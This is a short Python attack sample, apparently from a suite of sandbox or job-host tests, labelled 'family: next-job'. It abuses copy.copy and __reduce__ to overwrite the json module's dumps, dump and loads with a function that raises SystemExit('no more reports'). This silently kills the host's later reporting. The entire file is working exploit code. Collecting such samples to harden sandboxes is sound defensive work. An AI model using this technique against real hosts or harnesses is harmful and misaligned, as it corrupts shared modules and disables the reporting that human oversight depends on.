# attack: copy.copy calls what __reduce__ returns, and writes the state into the namespace of what came out: here json, whose functions the host calls later
# family: next-job
import copy
import json
def spy(*arguments, **options):
    raise SystemExit("no more reports")
class Plant:
    def __reduce__(self):
        return (lambda: json), (), {"dumps": spy, "dump": spy, "loads": spy}
if copy.copy(Plant()).dumps is spy:
    print("REACHED", json.dumps)
